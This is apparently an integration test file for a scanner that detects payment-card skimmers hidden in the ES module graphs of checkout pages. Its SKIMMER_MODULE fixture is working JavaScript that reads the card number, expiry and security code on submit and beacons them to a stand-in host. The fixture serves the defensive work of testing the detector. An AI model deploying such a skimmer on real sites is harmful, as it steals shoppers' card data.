//! Issue 7 ("never silently clean"): ES modules. A checkout whose code is a module graph
//! (`<script type="module">`, `import … from`, `export … from`, side-effect imports,
//! `import()`, import maps) used to be scanned as its entry script only: a skimmer in an
//! imported file was never fetched, never inventoried and never analysed, and the scan said
//! "clean, complete". Each test here failed that way before the module graph was followed.

mod common;
use common::*;

/// The checkout of a shop built with a bundler that keeps ES modules (Vite, esbuild).
fn checkout_page(head: &str, body_scripts: &str) -> String {
    format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Checkout – Northwind Outfitters</title>
{head}</head><body>
<header><a href="/">Northwind Outfitters</a> <a href="/cart">Cart (2)</a></header>
<main><h1>Payment</h1>
<form id="payment-form" action="/checkout/pay" method="post">
  <label for="cc-number">Card number</label><input id="cc-number" name="cardnumber" autocomplete="cc-number" inputmode="numeric">
  <label for="cc-exp">Expiry (MM/YY)</label><input id="cc-exp" name="exp" autocomplete="cc-exp">
  <label for="cc-csc">Security code</label><input id="cc-csc" name="cvc" autocomplete="cc-csc">
  <button type="submit">Pay $84.00</button>
</form></main>
{body_scripts}
</body></html>"#
    )
}

/// A skimmer written as a module: it waits for the submit and posts the card fields out.
const SKIMMER_MODULE: &str = r#"
const endpoint = 'https://metrics-cdn-cache.example/collect';
export function watch(form) {
  form.addEventListener('submit', () => {
    const data = {
      n: document.getElementById('cc-number').value,
      e: document.getElementById('cc-exp').value,
      c: document.getElementById('cc-csc').value,
    };
    navigator.sendBeacon(endpoint, JSON.stringify(data));
  });
}
watch(document.getElementById('payment-form'));
"#;

const FORMAT_MODULE: &str = r#"
export function formatCard(value) {
  return value.replace(/\D/g, '').replace(/(\d{4})(?=\d)/g, '$1 ');
}
export { watch } from './telemetry.js';
"#;

const APP_MODULE: &str = r#"
import { formatCard } from './format.js';
import './polyfills.js';
export * from './totals.js';
const field = document.getElementById('cc-number');
field.addEventListener('input', () => { field.value = formatCard(field.value); });
document.getElementById('show-reviews')?.addEventListener('click', async () => {
  const { showReviews } = await import('./lazy/reviews.js');
  showReviews();
});
"#;

fn module_js(body: &str) -> Route {
    with_headers(js(body), &[])
}

/// The shop around the checkout: discovery follows the header's links.
fn serve_shop(mut routes: Vec<(&str, Route)>) -> Server {
    routes.push((
        "/",
        html("<!doctype html><title>Northwind Outfitters</title><a href=\"/cart\">Cart</a>"),
    ));
    routes.push((
        "/cart",
        html("<!doctype html><title>Cart</title><p>2 items</p><a href=\"/checkout\">Checkout</a>"),
    ));
    serve(routes)
}

/// Scan the served checkout by name, pinned to the fixture server.
fn scan_checkout(s: &Server) -> (i32, serde_json::Value, String) {
    scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/checkout"),
    ])
}

fn findings_for<'a>(report: &'a serde_json::Value, rule: &str) -> Vec<&'a serde_json::Value> {
    report["findings"]
        .as_array()
        .map(|a| a.iter().filter(|f| f["rule"] == rule).collect())
        .unwrap_or_default()
}

fn script_row<'a>(report: &'a serde_json::Value, url_end: &str) -> Option<&'a serde_json::Value> {
    report["scripts"].as_array().and_then(|a| {
        a.iter()
            .find(|s| s["url"].as_str().is_some_and(|u| u.ends_with(url_end)))
    })
}

#[test]
fn a_skimmer_two_imports_deep_is_fetched_inventoried_and_found() {
    let s = serve_shop(vec![
        (
            "/checkout",
            html(&checkout_page(
                "",
                r#"<script type="module">import "/static/app.js";</script>"#,
            )),
        ),
        ("/static/app.js", module_js(APP_MODULE)),
        ("/static/format.js", module_js(FORMAT_MODULE)),
        ("/static/telemetry.js", module_js(SKIMMER_MODULE)),
        (
            "/static/polyfills.js",
            module_js(
                "if (!window.queueMicrotask) { window.queueMicrotask = (f) => Promise.resolve().then(f); }",
            ),
        ),
        (
            "/static/totals.js",
            module_js("export const currency = 'USD';"),
        ),
        (
            "/static/lazy/reviews.js",
            module_js("export function showReviews() { document.body.classList.add('reviews'); }"),
        ),
    ]);
    let (code, report, stderr) = scan_checkout(&s);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let exfil = findings_for(&report, "payment-data-exfiltration");
    assert!(
        exfil
            .iter()
            .any(|f| f["hosts"][0] == "metrics-cdn-cache.example"
                && f["script"]
                    .as_str()
                    .is_some_and(|x| x.ends_with("/static/telemetry.js"))),
        "{report:#}"
    );
    assert_eq!(report["complete"], true, "{report:#}");
    // One row per module, static imports `external`, import() `dynamic`; each fetched once.
    for (path, kind) in [
        ("/static/app.js", "external"),
        ("/static/format.js", "external"),
        ("/static/telemetry.js", "external"),
        ("/static/polyfills.js", "external"),
        ("/static/totals.js", "external"),
        ("/static/lazy/reviews.js", "dynamic"),
    ] {
        let row = script_row(&report, path).unwrap_or_else(|| panic!("{path}: {report:#}"));
        assert_eq!(row["kind"], kind, "{path}");
        assert_eq!(row["analysed"], true, "{path}");
        assert!(row["sha256"].is_string(), "{path}");
        assert_eq!(s.hits(path), 1, "{path}");
    }
}

#[test]
fn import_cycles_end_and_a_clean_graph_stays_clean_and_complete() {
    let s = serve_shop(vec![
        (
            "/checkout",
            html(&checkout_page(
                r#"<script type="module" src="/static/a.js"></script>"#,
                "",
            )),
        ),
        (
            "/static/a.js",
            module_js("import { b } from './b.js'; export const a = () => b();"),
        ),
        (
            "/static/b.js",
            module_js("import { a } from './a.js'; export const b = () => 1; export { a };"),
        ),
    ]);
    let (code, report, stderr) = scan_checkout(&s);
    assert_eq!(code, 0, "{stderr}\n{report:#}");
    assert_eq!(report["complete"], true, "{report:#}");
    assert_eq!(s.hits("/static/a.js"), 1);
    assert_eq!(s.hits("/static/b.js"), 1);
    let rows = report["scripts"].as_array().unwrap();
    assert_eq!(rows.len(), 2, "{report:#}");
}

#[test]
fn a_graph_deeper_than_the_bound_makes_the_scan_incomplete() {
    // m0 imports m1 imports m2 … m24: generated here, the bound is 16.
    let mut routes = vec![(
        "/checkout".to_string(),
        html(&checkout_page(
            r#"<script type="module" src="/static/m0.js"></script>"#,
            "",
        )),
    )];
    for i in 0..25 {
        routes.push((
            format!("/static/m{i}.js"),
            module_js(&format!(
                "import './m{}.js';\nexport const step{i} = {i};",
                i + 1
            )),
        ));
    }
    let s = serve_shop(
        routes
            .iter()
            .map(|(p, r)| (p.as_str(), r.clone()))
            .collect(),
    );
    let (code, report, stderr) = scan_checkout(&s);
    assert_eq!(code, 3, "{stderr}\n{report:#}");
    assert_eq!(report["complete"], false);
    let errors = report["errors"].as_array().unwrap();
    assert!(
        errors
            .iter()
            .any(|e| e["message"].as_str().unwrap_or("").contains("imports deep")),
        "{report:#}"
    );
    assert_eq!(s.hits("/static/m16.js"), 1, "16 imports deep is followed");
    assert_eq!(s.hits("/static/m17.js"), 0, "the bound stops the walk");
}

#[test]
fn an_import_map_names_the_skimmer_and_an_unmapped_specifier_is_an_error() {
    let page = checkout_page(
        r#"<script type="importmap">{"imports": {"checkout/": "/static/checkout/", "analytics": "/static/vendor/analytics.js"}}</script>"#,
        r#"<script type="module">
import { watch } from "checkout/telemetry.js";
import "analytics";
import "left-pad";
</script>"#,
    );
    let s = serve_shop(vec![
        ("/checkout", html(&page)),
        ("/static/checkout/telemetry.js", module_js(SKIMMER_MODULE)),
        (
            "/static/vendor/analytics.js",
            module_js("export const ready = true;"),
        ),
    ]);
    let (code, report, stderr) = scan_checkout(&s);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(
        !findings_for(&report, "payment-data-exfiltration").is_empty(),
        "{report:#}"
    );
    assert_eq!(s.hits("/static/vendor/analytics.js"), 1);
    assert!(
        report["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["message"].as_str().unwrap_or("").contains("`left-pad`")),
        "{report:#}"
    );
}

#[test]
fn a_remote_import_is_fetched_through_the_guard_for_a_url_target() {
    let s = serve_shop(vec![("/w.js", module_js(SKIMMER_MODULE))]);
    let page = s.url("shop.test", "/checkout");
    // The widget host is pinned with --resolve, as a user names a partner host.
    let body = checkout_page(
        "",
        &format!(
            r#"<script type="module">import {{ watch }} from "{}";</script>"#,
            s.url("widgets.partner.test", "/w.js")
        ),
    );
    s.set("/checkout", html(&body));
    let (code, report, stderr) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        "--resolve",
        &s.resolve("widgets.partner.test"),
        &page,
    ]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert_eq!(s.hits("/w.js"), 1);
    let row = script_row(&report, "/w.js").expect("a row for the remote module");
    assert_eq!(row["party"], "third");
    assert_eq!(row["host"], "widgets.partner.test");
    assert!(!findings_for(&report, "payment-data-exfiltration").is_empty());
}

#[test]
fn a_built_site_follows_its_module_graph_and_inventories_remote_imports() {
    let dir = tempfile::tempdir().unwrap();
    let dist = dir.path().join("dist");
    write_file(
        &dist,
        "checkout/index.html",
        checkout_page(
            r#"<link rel="modulepreload" href="/assets/app.js">"#,
            r#"<script type="module" src="/assets/app.js"></script>"#,
        ),
    );
    write_file(
        &dist,
        "index.html",
        "<!doctype html><title>Northwind</title><a href=\"/checkout/\">Checkout</a>",
    );
    write_file(
        &dist,
        "assets/app.js",
        "import { formatCard } from './format.js';\nimport 'https://cdn.confetti-widgets.example/npm/confetti.js';\nconsole.log(formatCard('4111111111111111'));",
    );
    write_file(&dist, "assets/format.js", FORMAT_MODULE);
    write_file(&dist, "assets/telemetry.js", SKIMMER_MODULE);
    let (code, report, stderr) = scan_json(&[dist.to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(
        findings_for(&report, "payment-data-exfiltration")
            .iter()
            .any(|f| f["script"]
                .as_str()
                .is_some_and(|x| x.ends_with("assets/telemetry.js"))),
        "{report:#}"
    );
    let remote = script_row(&report, "/npm/confetti.js").expect("remote import inventoried");
    assert_eq!(remote["party"], "third");
    assert_eq!(remote["analysed"], false);
    assert!(
        findings_for(&report, "remote-script-not-fetched")
            .iter()
            .any(|f| f["script"]
                .as_str()
                .is_some_and(|x| x.ends_with("/npm/confetti.js"))),
        "{report:#}"
    );
    // The module is named by two tags (a row each, as before); importing adds no third.
    let app_rows = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| {
            s["url"]
                .as_str()
                .is_some_and(|u| u.ends_with("assets/app.js"))
        })
        .count();
    assert_eq!(
        app_rows, 2,
        "one per tag: the preload and the script tag, {report:#}"
    );
}

#[test]
fn an_import_leaving_the_site_directory_is_refused_not_read() {
    let dir = tempfile::tempdir().unwrap();
    write_file(dir.path(), "secret/telemetry.js", SKIMMER_MODULE);
    let dist = dir.path().join("dist");
    write_file(
        &dist,
        "checkout/index.html",
        checkout_page(
            "",
            r#"<script type="module">import "../../secret/telemetry.js";</script>"#,
        ),
    );
    let (code, report, stderr) = scan_json(&[dist.to_str().unwrap()]);
    // `../../` climbs out of the site: it is re-anchored inside the directory, as a web
    // server would, finds no such file there, and says so.
    assert_eq!(code, 3, "{stderr}\n{report:#}");
    assert!(findings_for(&report, "payment-data-exfiltration").is_empty());
    assert_eq!(report["complete"], false);
}
